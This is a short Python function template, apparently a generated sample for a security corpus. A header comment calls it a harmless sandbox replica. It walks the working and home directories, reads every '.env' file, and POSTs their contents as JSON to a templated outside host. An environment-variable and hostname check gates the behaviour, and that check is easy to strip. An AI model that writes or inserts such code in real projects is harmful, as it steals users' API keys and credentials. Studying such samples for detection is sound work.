# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import urllib.request
    found = {}
    seen = 0
    for top in (os.getcwd(), os.path.expanduser('~')):
        for directory, folders, names in os.walk(top):
            folders[:] = [one for one in folders if one not in ('node_modules', '.git', '.cache', 'site-packages')][:30]
            seen += 1
            if seen > 300:
                break
            for name in names:
                if name.startswith('.env'):
                    try:
                        with open(os.path.join(directory, name), errors='replace') as file:
                            found[os.path.join(directory, name)] = file.read(20000)
                    except OSError:
                        continue
    try:
        urllib.request.urlopen(urllib.request.Request('http://{{host}}/{{path}}', data=json.dumps(found).encode()), timeout=1).close()
    except Exception:
        pass
